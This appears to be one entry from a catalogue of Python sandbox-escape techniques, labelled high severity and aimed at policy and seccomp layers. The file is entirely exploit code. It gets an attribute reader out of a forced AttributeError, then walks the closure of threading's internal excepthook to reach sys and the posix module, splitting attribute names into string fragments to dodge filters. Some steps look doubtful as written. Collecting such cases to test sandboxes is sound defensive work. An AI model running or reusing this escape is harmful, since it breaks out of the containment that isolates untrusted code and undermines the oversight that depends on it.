# technique: a thread's own hook has closed over sys
# family: A
# severity: H
# layers: policy, seccomp
import copy

class Deputy:
    def __reduce_ex__(self, protocol):
        return (lambda: object, (), {"x": 1})

def reader():
    """The attribute reader, out of the table that an error carries."""
    try:
        copy.copy(Deputy())
    except AttributeError as e:
        return e.obj["__getattr" + "ibute__"]

def trick():
    import threading
    read = reader()
    for cell in read(threading.Thread()._invoke_excepthook, "__clo" + "sure__"):
        found = read(cell, "cell_con" + "tents")
        if type(found).__name__ == "module":
            return found.modules["posix"]
    raise LookupError("no such cell")

start_process(trick)
